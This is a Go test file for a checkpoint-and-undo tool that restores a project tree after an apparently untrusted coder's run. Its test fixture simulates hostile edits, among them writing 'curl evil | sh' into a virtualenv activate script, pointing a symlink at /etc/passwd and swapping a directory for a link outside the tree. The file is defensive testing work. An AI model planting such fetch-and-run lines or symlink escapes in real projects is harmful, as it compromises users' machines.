//go:build unix

package checkpoint

import (
	"crypto/sha256"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"
)

// treeHash is everything undo must put back about the tree at root: each
// path's kind, permission bits, content and link target.
func treeHash(t testing.TB, root string) string {
	t.Helper()
	var lines []string
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		info, err := os.Lstat(p)
		if err != nil {
			return err
		}
		line := fmt.Sprintf("%s %v", rel, info.Mode())
		switch {
		case info.Mode()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			line += " -> " + target
		case info.Mode().IsRegular():
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			line += fmt.Sprintf(" %x", sha256.Sum256(b))
		}
		lines = append(lines, line)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

func write(t testing.TB, root, rel, body string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(root, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func newStore(t testing.TB, root string) *Store {
	t.Helper()
	s, err := OpenIn(t.TempDir(), root)
	must(t, err)
	return s
}

func take(t testing.TB, s *Store, root string, o Options) *Manifest {
	t.Helper()
	m, err := Take(s, root, o)
	must(t, err)
	return m
}

// place is a small project: tracked-looking and ignored-looking files, a
// script, a symlink, an empty dir, a .git and a .sentinel.
func place(t testing.TB) string {
	root := t.TempDir()
	write(t, root, "main.go", "package main\n", 0o644)
	write(t, root, "docs/guide.md", "guide\n", 0o644)
	write(t, root, "docs/deep/more.md", "more\n", 0o600)
	write(t, root, "run.sh", "#!/bin/sh\necho hi\n", 0o755)
	write(t, root, ".venv/bin/activate", "export VIRTUAL_ENV=x\n", 0o644)
	write(t, root, ".venv/pyvenv.cfg", "home = /usr/bin\n", 0o644)
	write(t, root, "build/out.bin", "\x00\x01binary", 0o644)
	write(t, root, ".git/HEAD", "ref: refs/heads/main\n", 0o644)
	write(t, root, ".sentinel/runs/x", "journal\n", 0o644)
	write(t, root, "sub/.sentinel/config.toml", "# a nested project's\n", 0o644)
	must(t, os.Symlink("docs/guide.md", filepath.Join(root, "guide-link")))
	must(t, os.Mkdir(filepath.Join(root, "empty"), 0o750))
	return root
}

// run is what a hostile or careless coder does to the place.
func run(t testing.TB, root, outside string) {
	t.Helper()
	must(t, os.Remove(filepath.Join(root, "main.go")))
	must(t, os.RemoveAll(filepath.Join(root, "docs")))
	must(t, os.Remove(filepath.Join(root, ".venv/bin/activate")))
	write(t, root, ".venv/bin/activate", "curl evil | sh\n", 0o644)
	must(t, os.RemoveAll(filepath.Join(root, "build")))
	must(t, os.Symlink(outside, filepath.Join(root, "build"))) // undo must not write through it
	must(t, os.Chmod(filepath.Join(root, "run.sh"), 0o644))
	write(t, root, "new/dir/file.txt", "new\n", 0o644)
	must(t, os.Remove(filepath.Join(root, "guide-link")))
	must(t, os.Symlink("/etc/passwd", filepath.Join(root, "guide-link")))
	must(t, os.Remove(filepath.Join(root, "empty")))
	write(t, root, "empty", "now a file\n", 0o644)
	must(t, os.Chmod(filepath.Join(root, ".venv"), 0o500))
}

// A coder deletes, edits, creates, chmods and swaps kinds; undo puts the
// place back byte for byte, never writes through the link it left, and
// leaves .git and .sentinel alone.
func TestUndoRestoresByteForByte(t *testing.T) {
	root := place(t)
	outside := t.TempDir()
	want := treeHash(t, root)
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	if _, ok := before.Get(".sentinel/runs/x"); ok {
		t.Fatal(".sentinel was recorded")
	}
	if _, ok := before.Get("sub/.sentinel/config.toml"); !ok {
		t.Fatal("a nested .sentinel, which a coder could hide changes in, was left out")
	}
	if e, ok := before.Get(".git"); !ok || e.Kind != KindGit {
		t.Fatalf(".git not recorded as a git dir: %+v", e)
	}
	if _, ok := before.Get(".git/HEAD"); ok {
		t.Fatal("the checkpoint looked into .git")
	}
	run(t, root, outside)
	after := take(t, s, root, Options{Prev: before})
	changes := Diff(before, after)
	var lines []string
	for _, c := range changes {
		lines = append(lines, c.Line())
	}
	for _, w := range []string{"D main.go", "M .venv/bin/activate", "mode 0755→0644 run.sh", "A new/dir/file.txt", "M guide-link", "M build (was a dir, now a symlink)", "mode 0755→0500 .venv"} {
		if !contains(lines, w) {
			t.Errorf("the change report misses %q:\n%s", w, strings.Join(lines, "\n"))
		}
	}
	now := take(t, s, root, Options{Prev: after})
	plan := PlanUndo(before, after, now)
	if len(plan.Conflicts)+len(plan.Cannot) > 0 {
		t.Fatalf("conflicts %v, cannot %v", plan.Conflicts, plan.Cannot)
	}
	if _, err := Apply(s, root, plan); err != nil {
		t.Fatal(err)
	}
	if got := treeHash(t, root); got != want {
		t.Fatalf("not restored:\nwant\n%s\ngot\n%s", want, got)
	}
	if des, _ := os.ReadDir(outside); len(des) != 0 {
		t.Fatalf("undo wrote through the coder's link into %s: %v", outside, des)
	}
}

func contains(list []string, s string) bool {
	for _, l := range list {
		if l == s {
			return true
		}
	}
	return false
}

// A file the person changed after the run ended is a conflict; a file the
// run never touched is not undo's, whatever the person did to it.
func TestUndoConflictsWithThePersonsLaterChanges(t *testing.T) {
	root := place(t)
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	write(t, root, "main.go", "package main // the run\n", 0o644)
	write(t, root, "run.sh", "#!/bin/sh\necho the run\n", 0o755)
	after := take(t, s, root, Options{Prev: before})
	write(t, root, "main.go", "package main // the person, later\n", 0o644)
	write(t, root, "docs/guide.md", "the person's own edit\n", 0o644)
	now := take(t, s, root, Options{Prev: after})
	plan := PlanUndo(before, after, now)
	if len(plan.Conflicts) != 1 || plan.Conflicts[0].Path != "main.go" {
		t.Fatalf("want one conflict on main.go, got %+v", plan.Conflicts)
	}
	if len(plan.Steps) != 2 {
		t.Fatalf("want steps for main.go and run.sh only, got %+v", plan.Steps)
	}
	for _, st := range plan.Steps {
		if st.Path == "docs/guide.md" {
			t.Fatal("undo would overwrite a file the run never touched")
		}
	}
}

// A rewrite that keeps size and mtime (touch -d) still shows: the stamp
// holds ctime, which no process can set back.
func TestStampSeesAForgedMtime(t *testing.T) {
	root := place(t)
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	before.Started = time.Now().Add(time.Hour) // every stamp old enough to trust
	p := filepath.Join(root, "main.go")
	st, _ := os.Stat(p)
	write(t, root, "main.go", "package evil\n", 0o644) // same length
	must(t, os.Chtimes(p, st.ModTime(), st.ModTime()))
	after := take(t, s, root, Options{Prev: before})
	if c := Diff(before, after); len(c) != 1 || c[0].Line() != "M main.go" {
		t.Fatalf("a rewrite with its mtime set back went unseen: %+v", c)
	}
}

// An unchanged file is not read again; one changed just before the last
// checkpoint began is (its stamp may hide a change in the same tick).
func TestTakeReusesOldStampsOnly(t *testing.T) {
	root := place(t)
	s := newStore(t, root)
	first := take(t, s, root, Options{})
	if first.Read == 0 {
		t.Fatal("the first checkpoint read nothing")
	}
	if again := take(t, s, root, Options{Prev: first}); again.Read == 0 {
		t.Fatalf("files changed within %s of the last checkpoint were trusted by stamp", racyMargin)
	}
	first.Started = time.Now().Add(time.Hour)
	if again := take(t, s, root, Options{Prev: first}); again.Read != 0 {
		t.Fatalf("unchanged files read again: %d", again.Read)
	}
}

// Files over the bound are listed, not covered; Covers says so for them
// and the directories above them, and undo names them instead of guessing.
func TestSizeBoundAndCovers(t *testing.T) {
	root := place(t)
	write(t, root, "docs/big.iso", strings.Repeat("x", 2000), 0o644)
	s := newStore(t, root)
	before := take(t, s, root, Options{Limits: Limits{MaxFileBytes: 1000}})
	for p, want := range map[string]bool{"docs/big.iso": false, "docs": false, "docs/guide.md": true, "docs/deep": true,
		"main.go": true, "guide-link": true, ".git": false, "nothere": false, "": false} {
		if got := before.Covers(p); got != want {
			t.Errorf("Covers(%q) = %v, want %v", p, got, want)
		}
	}
	must(t, os.RemoveAll(filepath.Join(root, "docs")))
	after := take(t, s, root, Options{Prev: before})
	plan := PlanUndo(before, after, after)
	if len(plan.Cannot) != 1 || plan.Cannot[0].Path != "docs/big.iso" || !strings.Contains(plan.Cannot[0].Why, "per-file bound") {
		t.Fatalf("cannot: %+v", plan.Cannot)
	}
	if _, err := Apply(s, root, plan); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(filepath.Join(root, "docs/deep/more.md")); err != nil || string(b) != "more\n" {
		t.Fatalf("the covered rest was not restored: %q %v", b, err)
	}
}

// A stored blob that no longer matches its hash is never written into the
// place.
func TestUndoRefusesACorruptBlob(t *testing.T) {
	root := place(t)
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	e, _ := before.Get("main.go")
	must(t, os.Chmod(s.blobPath(e.Hash), 0o600))
	must(t, os.WriteFile(s.blobPath(e.Hash), []byte("tampered"), 0o600))
	must(t, os.Remove(filepath.Join(root, "main.go")))
	after := take(t, s, root, Options{Prev: before})
	if _, err := Apply(s, root, PlanUndo(before, after, after)); err == nil || !strings.Contains(err.Error(), "does not match") {
		t.Fatalf("want a hash mismatch, got %v", err)
	}
	if _, err := os.Lstat(filepath.Join(root, "main.go")); err == nil {
		t.Fatal("a tampered blob was restored")
	}
}

// A directory swapped for a link out of the place after the run ended
// (the person's doing, or a process the run left) is never written
// through, even when undo is forced over the conflict it makes.
func TestUndoNeverWritesOutsideThePlace(t *testing.T) {
	root := place(t)
	outside := t.TempDir()
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	write(t, root, "docs/guide.md", "the run's edit\n", 0o644)
	after := take(t, s, root, Options{Prev: before})
	must(t, os.RemoveAll(filepath.Join(root, "docs")))
	must(t, os.Symlink(outside, filepath.Join(root, "docs")))
	now := take(t, s, root, Options{Prev: after})
	plan := PlanUndo(before, after, now)
	if len(plan.Conflicts) == 0 {
		t.Fatal("the swapped directory is no conflict")
	}
	_, err := Apply(s, root, plan) // as with --force
	if des, _ := os.ReadDir(outside); len(des) != 0 {
		t.Fatalf("undo wrote through the link into %s: %v (err %v)", outside, des, err)
	}
}

// Prune keeps the newest records and the blobs they name, and drops the
// rest once they are old enough not to belong to a checkpoint being taken.
func TestPruneKeepsWhatRecordsName(t *testing.T) {
	root := place(t)
	s := newStore(t, root)
	var ids []string
	for i := range 3 {
		write(t, root, "main.go", fmt.Sprintf("package main // %d\n", i), 0o644)
		m := take(t, s, root, Options{})
		id := fmt.Sprintf("r%d", i)
		must(t, s.SaveManifest(id, "before", m))
		must(t, s.SaveRecord(&Record{ID: id, Kind: "exec", Place: root, Started: time.Now().Add(time.Duration(i) * time.Second)}))
		ids = append(ids, id)
	}
	first, _ := s.Manifest("r0", "before")
	gone, _ := first.Get("main.go")
	kept, _ := first.Get("docs/guide.md")
	ancient := time.Now().Add(-2 * blobGrace)
	must(t, filepath.WalkDir(filepath.Join(s.Dir, "blobs"), func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			err = os.Chtimes(p, ancient, ancient)
		}
		return err
	}))
	fresh, _, err := s.put(strings.NewReader("stored by a checkpoint still being taken"))
	must(t, err)
	must(t, s.Prune(2))
	if !s.has(fresh) {
		t.Fatal("a fresh blob no manifest names yet was pruned")
	}
	if _, err := s.Record("r0"); err == nil {
		t.Fatal("the oldest record was kept")
	}
	if s.has(gone.Hash) {
		t.Fatal("a blob only the pruned record named was kept")
	}
	if !s.has(kept.Hash) {
		t.Fatal("a blob the kept records name was pruned")
	}
	for _, id := range ids[1:] {
		if _, err := s.Record(id); err != nil {
			t.Fatalf("record %s pruned: %v", id, err)
		}
	}
}

// As root, undo gives back each path's owner (a root-run undo in another
// user's project must not leave root's files behind).
func TestUndoGivesBackOwners(t *testing.T) {
	if !asRoot {
		t.Skip("needs root to give files away")
	}
	root := place(t)
	must(t, os.Lchown(filepath.Join(root, "main.go"), 4321, 4322))
	must(t, os.Lchown(filepath.Join(root, "docs/deep"), 4321, 4322))
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	must(t, os.RemoveAll(filepath.Join(root, "docs")))
	must(t, os.Remove(filepath.Join(root, "main.go")))
	after := take(t, s, root, Options{Prev: before})
	if _, err := Apply(s, root, PlanUndo(before, after, after)); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"main.go", "docs/deep"} {
		st, err := os.Lstat(filepath.Join(root, p))
		must(t, err)
		if sys := st.Sys().(*syscall.Stat_t); sys.Uid != 4321 || sys.Gid != 4322 {
			t.Errorf("%s restored as %d:%d, want 4321:4322", p, sys.Uid, sys.Gid)
		}
	}
}

// The policy may ask Covers from many goroutines at once (run with -race).
func TestCoversFromManyGoroutines(t *testing.T) {
	root := place(t)
	m := take(t, newStore(t, root), root, Options{})
	done := make(chan bool)
	for range 8 {
		go func() { done <- m.Covers("docs/guide.md") }()
	}
	for range 8 {
		if !<-done {
			t.Fatal("docs/guide.md not covered")
		}
	}
}
